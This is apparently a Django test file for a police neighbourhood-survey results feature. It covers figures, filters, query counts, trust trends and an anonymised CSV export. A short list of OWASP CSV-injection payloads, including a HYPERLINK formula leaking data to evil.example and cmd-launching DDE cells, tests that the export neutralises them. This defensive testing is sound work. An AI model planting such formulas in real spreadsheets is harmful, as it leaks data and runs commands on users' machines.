"""Survey results: figures for a fixed set of responses match the hand-computed ones; filters by
neighbourhood and period; the page's query count does not grow with responses; trends across
trust-and-confidence rounds; the CSV export without personal data."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import Role
from core.audit import recipient_of
from core.models import AuditEvent
from evaluation.models import Audience, Question, QuestionKind, Survey
from evaluation.selectors.surveys_results import survey_results, trust_trend
from evaluation.services.survey_templates import TRUST_CONFIDENCE
from evaluation.services.surveys import survey_publish
from evaluation.services.surveys_questions import question_add
from tests.accounts.factories import UserFactory
from tests.conftest import World, sign_in
from tests.evaluation.factories_surveys import add_every_kind, add_response, make_survey
from tests.partnerships.factories import NeighbourhoodFactory

pytestmark = pytest.mark.django_db


def _fixed_set(world: World) -> tuple[Survey, dict[str, Question]]:
    officer = world.users["officer"]
    survey = make_survey(officer, publish=False, neighbourhood=NeighbourhoodFactory(organisation=world.force))
    q = add_every_kind(officer, survey)
    survey_publish(actor=officer, survey=survey)
    now = timezone.now()
    rows: list[dict[str, Any]] = [
        {
            "agreement": 5,
            "rating": 8,
            "single": "Leaflet",
            "multiple": ["Speeding", "Litter"],
            "yes_no": 1,
            "number": 10,
            "text": "Brighter street lights.",
        },
        {
            "agreement": 4,
            "rating": 6,
            "single": "Meeting",
            "multiple": ["Speeding"],
            "yes_no": 0,
            "number": 20,
            "text": "More patrols.",
        },
        {"agreement": 2, "rating": 10, "single": "Leaflet", "yes_no": 1, "number": 30},
        {"agreement": 1, "rating": 4},
        {"agreement": 4},
    ]
    for index, row in enumerate(rows):
        add_response(
            survey,
            {q[kind]: value for kind, value in row.items()},
            submitted_at=now - datetime.timedelta(days=len(rows) - index),
        )
    return survey, q


def test_results_match_hand_computed_figures(world: World) -> None:
    survey, _ = _fixed_set(world)
    results = survey_results(survey=survey)
    by_kind = {r.question.kind: r for r in results.questions}
    assert results.responses == 5

    agreement = by_kind["agreement"]
    assert agreement.answered == 5
    assert [(r.label, r.count, r.percent) for r in agreement.rows] == [
        ("Strongly agree", 1, 20.0),
        ("Agree", 2, 40.0),
        ("Neither agree nor disagree", 0, 0.0),
        ("Disagree", 1, 20.0),
        ("Strongly disagree", 1, 20.0),
    ]
    # (1 + 2 agree) - (1 + 1 disagree) = 1 of 5 answering.
    assert agreement.net_agreement == 20.0

    rating = by_kind["rating"]
    assert (rating.answered, rating.mean) == (4, 7.0)
    assert {r.label: r.count for r in rating.rows if r.count} == {"4": 1, "6": 1, "8": 1, "10": 1}

    single = by_kind["single"]
    assert [(r.label, r.count, r.percent) for r in single.rows] == [
        ("Leaflet", 2, 66.7),
        ("Meeting", 1, 33.3),
        ("Online", 0, 0.0),
    ]
    multiple = by_kind["multiple"]
    # Percentages of the 2 people who answered: options are not exclusive.
    assert multiple.answered == 2
    assert [(r.label, r.count, r.percent) for r in multiple.rows] == [
        ("Speeding", 2, 100.0),
        ("Litter", 1, 50.0),
        ("Noise", 0, 0.0),
    ]
    assert [(r.label, r.count) for r in by_kind["yes_no"].rows] == [("Yes", 2), ("No", 1)]

    number = by_kind["number"]
    assert (number.answered, number.mean, number.minimum, number.maximum) == (
        3,
        Decimal("20"),
        Decimal("10"),
        Decimal("30"),
    )
    # Newest first.
    assert by_kind["text"].texts == ["More patrols.", "Brighter street lights."]


def test_results_filter_by_period(world: World) -> None:
    survey, q = _fixed_set(world)
    start = timezone.localdate() - datetime.timedelta(days=2)
    results = survey_results(survey=survey, start=start)
    agreement = next(r for r in results.questions if r.question == q["agreement"])
    # Only the last two responses (Strongly disagree, Agree).
    assert results.responses == 2
    assert agreement.net_agreement == 0.0


def test_results_filter_by_neighbourhood(world: World) -> None:
    survey, _ = _fixed_set(world)
    elsewhere = NeighbourhoodFactory(organisation=world.force)
    assert survey_results(survey=survey, neighbourhood=elsewhere).responses == 0
    assert survey_results(survey=survey, neighbourhood=survey.neighbourhood).responses == 5


def test_results_page_shows_charts_with_data_tables(client: Client, world: World) -> None:
    survey, q = _fixed_set(world)
    sign_in(client, world.users["supervisor"])
    body = client.get(reverse("survey-results", kwargs={"pk": survey.pk})).content.decode()
    assert "Net agreement: 20.0%" in body
    assert f'id="chart-q{q["agreement"].pk}"' in body
    assert "<caption>Answers to question 1</caption>" in body
    assert 'id="survey-chart-data"' in body
    assert "js/survey_results.js" in body
    assert "More patrols." in body


def test_results_page_refuses_a_backwards_period_with_a_message(client: Client, world: World) -> None:
    survey, _ = _fixed_set(world)
    sign_in(client, world.users["officer"])
    response = client.get(
        reverse("survey-results", kwargs={"pk": survey.pk}), {"start": "2026-11-20", "end": "2026-11-01"}
    )
    assert response.status_code == 200
    assert "The end of the period must be on or after its start." in response.content.decode()


@pytest.mark.parametrize("responses", [1, 5])
def test_results_page_query_count_does_not_grow_with_responses(
    client: Client, world: World, responses: int, django_assert_num_queries: Any
) -> None:
    officer = world.users["officer"]
    survey = make_survey(officer, publish=False)
    q = add_every_kind(officer, survey)
    survey_publish(actor=officer, survey=survey)
    for n in range(responses):
        add_response(survey, {q["agreement"]: 1 + n % 5, q["multiple"]: ["Litter", "Noise"], q["text"]: f"Note {n}"})
    sign_in(client, officer)
    # Session, user, OTP device; the survey; its questions; their options; the response count; the
    # grouped distribution; the per-question summary; the free-text answers; the neighbourhoods of
    # the filter; the priorities set from the survey, and those the officer may link.
    with django_assert_num_queries(13):
        assert client.get(reverse("survey-results", kwargs={"pk": survey.pk})).status_code == 200


def test_trust_trend_gives_net_agreement_per_item_per_round(world: World) -> None:
    supervisor = world.users["supervisor"]
    eastgate = NeighbourhoodFactory(organisation=world.force, name="Eastgate")
    today = timezone.localdate()
    spring = make_survey(
        supervisor,
        template=TRUST_CONFIDENCE,
        neighbourhood=eastgate,
        opens_on=today - datetime.timedelta(days=200),
        closes_on=today - datetime.timedelta(days=170),
    )
    autumn = make_survey(supervisor, template=TRUST_CONFIDENCE, neighbourhood=eastgate)
    good_job = {s.pk: s.questions.get(item_key="good_job") for s in (spring, autumn)}
    for value in (1, 2, 4):  # spring: 1 agree, 2 disagree of 3 -> -33.3
        add_response(spring, {good_job[spring.pk]: value})
    for value in (4, 5, 5, 3):  # autumn: 3 agree, 0 disagree of 4 -> 75.0
        add_response(autumn, {good_job[autumn.pk]: value})
    trend = trust_trend(user=supervisor)
    rounds = trend["Eastgate"]
    assert [r.survey for r in rounds] == [spring, autumn]
    assert [r.net["good_job"] for r in rounds] == [-33.3, 75.0]
    assert rounds[1].net["fair_respect"] is None
    assert [r.responses for r in rounds] == [3, 4]


def test_trends_page_lists_rounds_in_a_table(client: Client, world: World) -> None:
    supervisor = world.users["supervisor"]
    survey = make_survey(
        supervisor,
        template=TRUST_CONFIDENCE,
        neighbourhood=NeighbourhoodFactory(organisation=world.force, name="Riverside"),
    )
    add_response(survey, {survey.questions.get(item_key="good_job"): 5})
    sign_in(client, supervisor)
    body = client.get(reverse("survey-trends")).content.decode()
    assert "Riverside: net agreement by round (%)" in body
    assert "100.0" in body


def test_trends_exclude_surveys_the_user_may_not_see(world: World) -> None:
    make_survey(world.users["partner_lead"], template=TRUST_CONFIDENCE)
    assert trust_trend(user=world.users["officer"]) == {}


def test_csv_export_has_one_row_per_response_and_no_personal_data(client: Client, world: World) -> None:
    survey = make_survey(world.users["partner_lead"], audience=Audience.PARTNER)
    question = survey.questions.get()
    add_response(survey, {question: 5}, respondent=world.users["partner_member"])
    add_response(survey, {question: 2}, respondent=world.users["partner_lead"])
    add_response(survey, {})  # every question optional and left empty: still a row
    sign_in(client, world.users["partner_lead"])
    response = client.get(reverse("survey-export", kwargs={"pk": survey.pk}))
    assert response["Content-Type"] == "text/csv"
    content = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0] == ["Response", "Submitted", "Neighbourhood", "The police do a good job."]
    assert sorted(row[3] for row in rows[1:]) == ["", "Disagree", "Strongly agree"]
    assert "@" not in content
    assert world.users["partner_member"].full_name not in content
    event = AuditEvent.objects.get(verb="evaluation.survey.exported", target_id=str(survey.pk))
    # The export is a disclosure: its event names who received it (DPA 2018 s.62).
    assert event.detail == {"rows": 3, "recipient": recipient_of(world.users["partner_lead"])}


# Cells a spreadsheet would run (OWASP CSV injection): one starting with each of = + - @.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
]


def _exported(client: Client, survey: Survey) -> list[list[str]]:
    response = client.get(reverse("survey-export", kwargs={"pk": survey.pk}))
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(content)))


def test_public_answers_that_start_a_formula_are_exported_as_text(world: World) -> None:
    officer = world.users["officer"]
    survey = make_survey(officer, publish=False, neighbourhood=NeighbourhoodFactory(organisation=world.force))
    text = question_add(actor=officer, survey=survey, kind=QuestionKind.TEXT, text="Anything else?")
    number = question_add(actor=officer, survey=survey, kind=QuestionKind.NUMBER, text="Change since last year?")
    survey_publish(actor=officer, survey=survey)
    agreement = survey.questions.get(kind=QuestionKind.AGREEMENT)
    for formula in FORMULAS:  # each from another browser, as members of the public
        answer = {f"q_{agreement.pk}": "4", f"q_{text.pk}": formula, f"q_{number.pk}": "-5"}
        posted = Client().post(reverse("survey-public", kwargs={"token": survey.public_token}), answer)
        assert posted.status_code == 302
    rows = _exported(sign_in(Client(), officer), survey)
    assert sorted(row[4] for row in rows[1:]) == sorted(f"'{formula}" for formula in FORMULAS)
    # A number the application stored stays a number, negative or not.
    assert [row[5] for row in rows[1:]] == ["-5.00"] * len(FORMULAS)


def test_partner_answers_and_questions_that_start_a_formula_are_exported_as_text(world: World) -> None:
    lead = world.users["partner_lead"]
    survey = make_survey(lead, audience=Audience.PARTNER, publish=False)
    question = question_add(actor=lead, survey=survey, kind=QuestionKind.TEXT, text="=1+1 what went well?")
    survey_publish(actor=lead, survey=survey)
    agreement = survey.questions.get(kind=QuestionKind.AGREEMENT)
    for n, formula in enumerate(FORMULAS):
        member = UserFactory(email=f"member{n}@council.test", role=Role.PARTNER_MEMBER, organisation=world.partner)
        client = sign_in(Client(), member)
        posted = client.post(
            reverse("survey-answer", kwargs={"pk": survey.pk}), {f"q_{agreement.pk}": "5", f"q_{question.pk}": formula}
        )
        assert posted.status_code == 302
    rows = _exported(sign_in(Client(), lead), survey)
    assert rows[0][4] == "'=1+1 what went well?"
    assert sorted(row[4] for row in rows[1:]) == sorted(f"'{formula}" for formula in FORMULAS)


def test_trust_trend_filters_rounds_by_the_period_they_opened_in(world: World) -> None:
    supervisor = world.users["supervisor"]
    eastgate = NeighbourhoodFactory(organisation=world.force, name="Eastgate")
    today = timezone.localdate()
    old = make_survey(
        supervisor,
        template=TRUST_CONFIDENCE,
        neighbourhood=eastgate,
        opens_on=today - datetime.timedelta(days=200),
        closes_on=today - datetime.timedelta(days=170),
    )
    recent = make_survey(supervisor, template=TRUST_CONFIDENCE, neighbourhood=eastgate)
    assert [r.survey for r in trust_trend(user=supervisor)["Eastgate"]] == [old, recent]
    since = today - datetime.timedelta(days=30)
    assert [r.survey for r in trust_trend(user=supervisor, start=since)["Eastgate"]] == [recent]


@pytest.mark.parametrize("count", [1, 5])
def test_trends_page_query_count_does_not_grow_with_rounds(
    client: Client, world: World, count: int, django_assert_num_queries: Any
) -> None:
    supervisor = world.users["supervisor"]
    for _ in range(count):
        survey = make_survey(
            supervisor, template=TRUST_CONFIDENCE, neighbourhood=NeighbourhoodFactory(organisation=world.force)
        )
        add_response(survey, {survey.questions.get(item_key="good_job"): 4})
    sign_in(client, supervisor)
    # Session, user, OTP device; the rounds (with neighbourhoods and response counts); the grouped
    # net agreement of every round; the neighbourhoods of the filter.
    with django_assert_num_queries(6):
        assert client.get(reverse("survey-trends")).status_code == 200
